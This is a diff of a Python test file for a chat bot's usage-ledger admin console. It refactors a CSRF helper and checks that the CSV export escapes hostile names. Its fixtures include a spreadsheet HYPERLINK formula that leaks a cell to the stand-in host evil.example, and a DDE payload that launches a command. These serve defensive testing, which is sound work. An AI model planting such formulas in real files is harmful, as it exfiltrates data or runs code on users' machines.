@@ -19,7 +19,7 @@ from bot.domain import usd_string
 from bot.storage.names import CHANNEL, USER
 from bot.storage.tables import UsageEntry, utcnow
 from tests.fakes.slack import FakeSlack
-from tests.ops.console_harness import now_local, running_console, seed_ledger
+from tests.ops.console_harness import csrf, now_local, running_console, seed_ledger
 
 # Names people can give themselves and their channels, which a spreadsheet would run as formulas.
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
@@ -28,13 +28,6 @@ DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 def _client() -> aiohttp.ClientSession:
     return aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True), timeout=aiohttp.ClientTimeout(total=60))
-
-
-async def _csrf(client: aiohttp.ClientSession, url: str) -> str:
-    page = await (await client.get(url)).text()
-    marker = 'name="csrf_token" value="'
-    start = page.index(marker) + len(marker)
-    return page[start:page.index('"', start)]
 
 
 def _guarded(response: aiohttp.ClientResponse) -> bool:
@@ -48,7 +41,7 @@ async def test_hostile_requests_get_a_4xx_and_the_security_headers(slack: FakeSl
         assert _guarded(await client.get(base + "/ledger", allow_redirects=False))  # the sign-in redirect
         signed_in = await console.sign_in(client)
         assert signed_in.status == 303 and _guarded(signed_in)
-        token = await _csrf(client, base + "/channels")
+        token = await csrf(client, base + "/channels")
 
         for day in ("9999-12-31", "0001-01-01", "2026-02-30"):
             for page in ("/ledger", "/ledger.csv"):
@@ -94,7 +87,7 @@ async def test_the_ledger_csv_writes_hostile_names_as_text(slack: FakeSlack, set
         assert response.status == 200 and _guarded(response)
         rows = list(csv.DictReader(io.StringIO(await response.text())))
 
-        queries = ConsoleQueries(core.db, core.reports)
+        queries = ConsoleQueries(core.db, core.reports, core.settings.workspace_scoped_platforms)
         expected = {r.id: r for r in await queries.ledger(LedgerFilter(), limit=1_000_000)}
         assert sorted(int(row["id"]) for row in rows) == sorted(expected)
         names = {"slack:U2": "'" + HYPERLINK, "slack:U1": "Ada Lovelace", "discord:777": "", "discord:778": ""}
@@ -142,6 +135,7 @@ async def test_the_ledger_csv_is_sent_page_by_page_every_row_once_in_order(
         response = await client.get(console.base_url + "/admin/ledger.csv")
         assert response.status == 200 and _guarded(response)
         text = await response.text()
-        expected = await ConsoleQueries(core.db, core.reports).ledger(LedgerFilter(), limit=1_000_000)
+        queries = ConsoleQueries(core.db, core.reports, core.settings.workspace_scoped_platforms)
+        expected = await queries.ledger(LedgerFilter(), limit=1_000_000)
         assert len(expected) > 3 * 4 and text.count("started_at") == 1  # several pages, one header
         assert [int(row["id"]) for row in csv.DictReader(io.StringIO(text))] == [r.id for r in expected]
